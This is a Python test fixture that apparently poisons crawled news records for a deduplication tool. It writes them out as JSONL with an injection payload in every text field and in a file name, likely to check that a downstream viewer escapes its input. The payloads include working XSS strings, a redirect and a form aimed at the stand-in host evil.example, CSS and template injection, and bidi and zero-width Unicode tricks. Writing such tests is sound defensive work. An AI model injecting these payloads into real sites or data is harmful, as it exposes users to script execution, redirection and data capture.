"""The sample as a scraper with a grudge would deliver it: a payload in every text field of every record."""

import json
from pathlib import Path

from dedup.reading.read import find_files, read_batches
from dedup.settings import ReadSettings

MARK = "PWNED"
"""Stands in every payload: a page that shows it as text was given it."""
EVIL = "https://evil.example"

PAYLOADS = [
    f"</script><script>window.{MARK}=1;alert('{MARK}')</script>",
    f"<img src=x onerror=\"window.{MARK}=1;alert('{MARK}')\">",
    f"<svg/onload=alert('{MARK}')><iframe src='{EVIL}/{MARK}'></iframe>",
    f"\"' autofocus onfocus=alert('{MARK}') x='",
    f"javascript:alert('{MARK}')",
    f"![{MARK}]({EVIL}/p.png) [ข่าว](javascript:alert('{MARK}'))",
    f"</style><style>*{{display:none!important}} @import url({EVIL}/{MARK}.css);</style>",
    f";}}}} body{{background:url({EVIL}/{MARK})}} /* --> ]]> <!--",
    f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/{MARK}'><a href='{EVIL}'>{MARK}</a>",
    f"</td></tr></table></div></section></body></html><form action='{EVIL}'><input value={MARK}>",
    f"{{{{ 7 * 7 }}}}{{% raise {MARK} %}}${{7*7}}<%= 7*7 %>",
    f"\u202e\u2066{MARK}\u2067\u200f\u202d",
    f"{MARK}\ufeff\u2060\u200b\u200d\u00ad\u0001\u001b[31m\u0085\u2028",
    f"{MARK}ก{'่' * 60}ู{'ฺ' * 60}Z{'́' * 60}",
    f"{MARK}{'W' * 3_000}",
]
FILE = f"mixed<img src=x onerror=alert('{MARK}')>.jsonl"
LONG = f"{MARK}{'ข่าวยาว' * 14_000}"  # 100,000 characters
TEXTS = ["source_record_id", "url", "title", "category", "published_raw"]


def poison(raw: Path, to: Path) -> None:
    """The records of `raw` as one JSONL file a night, every text with a payload of its turn before or behind it."""
    settings, number = ReadSettings(), 0
    sources: dict[str, str] = {}
    for file in find_files(raw, settings=settings):
        for batch in read_batches(file, settings=settings):
            for row in batch.records.to_dicts():
                number += 1
                turn = PAYLOADS[number % len(PAYLOADS)]
                source = sources.setdefault(row["source"] or "", f"{row['source']}{PAYLOADS[len(sources)]}")
                shown = {name: f"{row[name] or ''}{turn}" for name in TEXTS}
                shown["title"] = LONG if number % 40 == 0 else f"{turn} {row['title'] or ''}"
                shown["published_raw"] = turn if number % 3 == 0 else row["published_raw"]
                shown["url"] = row["url"] if number % 2 else turn
                extra = {f"{turn}{key}": turn for key in json.loads(row["extra"] or "{}")} | {
                    turn: [turn, {turn: turn}]
                }
                text = _poisoned_text(row["text"] or row["html"] or "", turn, number)
                record = {**extra, **shown, "source": source, "crawled_raw": row["crawled_raw"], "text": text}
                _append(to / f"crawl_date={file.night}" / FILE, record, is_broken=number % 30 == 0)


def _poisoned_text(text: str, turn: str, number: int) -> str:
    """The payload as a line of its own, where it may be taken for furniture, and within a sentence that varies."""
    lines = text.splitlines() or [""]
    middle = len(lines) // 2
    lines[middle] = f"{lines[middle]} {turn} {number}"
    return "\n".join([turn, *lines, turn])


def _append(path: Path, record: dict[str, object], *, is_broken: bool) -> None:
    """One line more; a broken one is refused, and its payload shown among the refused."""
    path.parent.mkdir(parents=True, exist_ok=True)
    names = {"published_raw": "published_at", "crawled_raw": "crawled_at", "source_record_id": "id"}
    line = json.dumps({names.get(name, name): value for name, value in record.items()}, ensure_ascii=False)
    with path.open("a", encoding="utf-8") as out:
        out.write(line[: len(line) // 2 if is_broken else None] + "\n")
